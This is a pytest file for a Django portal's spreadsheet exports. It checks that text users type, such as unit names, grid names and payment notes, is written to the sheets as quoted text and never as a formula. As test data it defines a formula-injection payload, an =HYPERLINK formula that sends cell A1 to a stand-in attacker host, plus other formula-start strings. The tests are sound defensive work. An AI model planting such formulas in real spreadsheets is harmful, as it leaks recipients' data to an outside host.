"""Issue #14 §1: no spreadsheet the portal writes carries a formula from user text.

Each export is fed ``=HYPERLINK(...)`` (and the other formula starts) through the data a user can
type (unit and grid names, payment notes), then the file is read back twice: its sheets' XML has
no ``<f>`` element at all, and the cell holds the text exactly, typed as text and flagged as
"typed as text" (Excel's quote prefix) so that editing it later keeps it text.
"""

import datetime
import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils.translation import gettext_lazy
from openpyxl import Workbook, load_workbook

from committees.models import Unit
from common import xlsx
from funding import exports as funding_exports
from funding import services as funding_services
from tests.assessment.report_factories import YEAR, finalised_task, make_round
from tests.factories import GridFactory
from tests.funding.conftest import active_plan, fy, units  # noqa: F401 - fixtures used below

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
OTHER_STARTS = ["-5", "+8613800000000", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def formulas_in(content: bytes) -> list[str]:
    """The sheets of the file that hold a formula element."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and re.search(rb"<f[ >/]", archive.read(name))
        ]


def text_cells(content: bytes, text: str) -> list:
    """Every cell of every sheet whose value is exactly ``text``."""
    book = load_workbook(io.BytesIO(content))
    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value == text]


def assert_written_as_text(content: bytes, *texts: str) -> None:
    assert formulas_in(content) == []
    for text in texts:
        cells = text_cells(content, text)
        assert cells, f"{text!r} is not in the file"
        for c in cells:
            assert c.data_type == "s", (text, c.coordinate)
            assert c.quotePrefix, (text, c.coordinate)


def rename(unit, name):
    Unit.objects.filter(pk=unit.pk).update(name=name)
    unit.refresh_from_db()
    return unit


# --- the cell writer --------------------------------------------------------------------------


@pytest.mark.parametrize("write_only", [False, True])
def test_cell_writer_keeps_text_as_text_and_numbers_as_numbers(write_only):
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("表") if write_only else book.active
    row = [PAYLOAD, *OTHER_STARTS, Decimal("1234.50"), 7, datetime.date(2026, 3, 5), None, "普通文字", "a\x01b"]
    xlsx.append(sheet, [*row, gettext_lazy("合计")])
    buffer = io.BytesIO()
    book.save(buffer)
    content = buffer.getvalue()
    assert formulas_in(content) == []
    cells = next(load_workbook(io.BytesIO(content)).worksheets[0].iter_rows())
    values = [c.value for c in cells]
    assert values[:6] == [PAYLOAD, *OTHER_STARTS]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[:6])
    assert values[6] == 1234.5 and cells[6].data_type == "n"  # a Decimal stays a number
    assert values[7] == 7 and cells[7].data_type == "n"
    assert values[8] == datetime.datetime(2026, 3, 5)
    assert values[9] is None
    assert values[10] == "普通文字" and cells[10].data_type == "s" and not cells[10].quotePrefix
    assert values[11] == "ab"  # a control character Excel cannot hold is dropped, not a 500
    assert values[12] == "合计"


def test_put_writes_a_single_cell_safely():
    book = Workbook()
    cell = xlsx.put(book.active, 3, 2, PAYLOAD)
    assert cell.coordinate == "B3" and cell.data_type == "s" and cell.quotePrefix
    assert xlsx.put(book.active, 3, 3, Decimal("2.50")).data_type == "n"


def test_text_is_cut_at_excels_cell_limit():
    cell = xlsx.cell(Workbook().active, "字" * 40000)
    assert len(cell.value) == xlsx.MAX_CELL_CHARS


# --- every export -----------------------------------------------------------------------------


def test_ledger_export_writes_unit_names_as_text(login, world, township_user):
    rename(world.unit, PAYLOAD)
    rename(world.sibling_unit, "-5")
    response = login(township_user).get(reverse("committees:unit_export"))
    assert response.status_code == 200
    assert_written_as_text(response.content, PAYLOAD, "-5")


def test_ledger_template_writes_grid_names_as_text(login, world, township_user):
    GridFactory(community=world.mine.community, name=PAYLOAD)
    url = reverse("committees:unit_import_template", args=[world.mine.community.pk])
    response = login(township_user).get(url)
    assert response.status_code == 200
    assert_written_as_text(response.content, PAYLOAD)


def test_funding_ledger_and_shares_write_user_text_as_text(login, world, secretary_user, active_plan):  # noqa: F811
    rename(world.unit, PAYLOAD)
    funding_services.payment_record(
        actor=secretary_user,
        fiscal_year=active_plan.fiscal_year,
        unit=world.unit,
        amount=Decimal("100.00"),
        paid_on=datetime.date(2026, 3, 1),
        note="@SUM(1+1)",
    )
    client = login(secretary_user)
    ledger = client.get(reverse("funding:ledger_xlsx", args=[active_plan.fiscal_year.pk]))
    assert ledger.status_code == 200
    assert formulas_in(ledger.content) == []
    assert all(c.data_type == "s" for c in text_cells(ledger.content, "@SUM(1+1)"))
    shares = client.get(reverse("funding:shares_xlsx", args=[active_plan.fiscal_year.pk]))
    assert shares.status_code == 200
    assert_written_as_text(shares.content, PAYLOAD)
    # amounts stay numbers
    book = load_workbook(io.BytesIO(shares.content)).worksheets[0]
    total = next(r for r in book.iter_rows(values_only=True) if r[0] == "合计")
    assert Decimal(str(total[6])) == Decimal("10000.00")


def test_funding_ledger_export_function_with_a_formula_note(world, secretary_user, active_plan):  # noqa: F811
    funding_services.payment_record(
        actor=secretary_user,
        fiscal_year=active_plan.fiscal_year,
        unit=world.unit,
        amount=Decimal("100.00"),
        paid_on=datetime.date(2026, 3, 1),
        note=PAYLOAD,
    )
    content = funding_exports.ledger_workbook(fiscal_year=active_plan.fiscal_year)
    assert formulas_in(content) == []
    assert all(c.data_type == "s" and c.quotePrefix for c in text_cells(content, PAYLOAD))


def test_cobuilding_overview_writes_unit_names_as_text(login, world, secretary_user):
    rename(world.unit, PAYLOAD)
    response = login(secretary_user).get(reverse("cobuilding:overview_export"), {"committee": world.mine.pk})
    assert response.status_code == 200
    assert_written_as_text(response.content, PAYLOAD)


def test_ranking_writes_unit_and_community_names_as_text(login, world, county_user):
    rename(world.unit, PAYLOAD)
    world.mine.community.__class__.objects.filter(pk=world.mine.community.pk).update(name="+1 社区")
    finalised_task(make_round(world.county), world.unit)
    response = login(county_user).get(
        reverse("assessment:ranking_xlsx"), {"year": YEAR, "scope": "county", "id": world.county.pk}
    )
    assert response.status_code == 200
    assert_written_as_text(response.content, PAYLOAD, "+1 社区")
    row = [c.value for c in load_workbook(io.BytesIO(response.content))["排名"][2]]
    assert row[0] == 1 and isinstance(row[6], float)  # rank and scores stay numbers
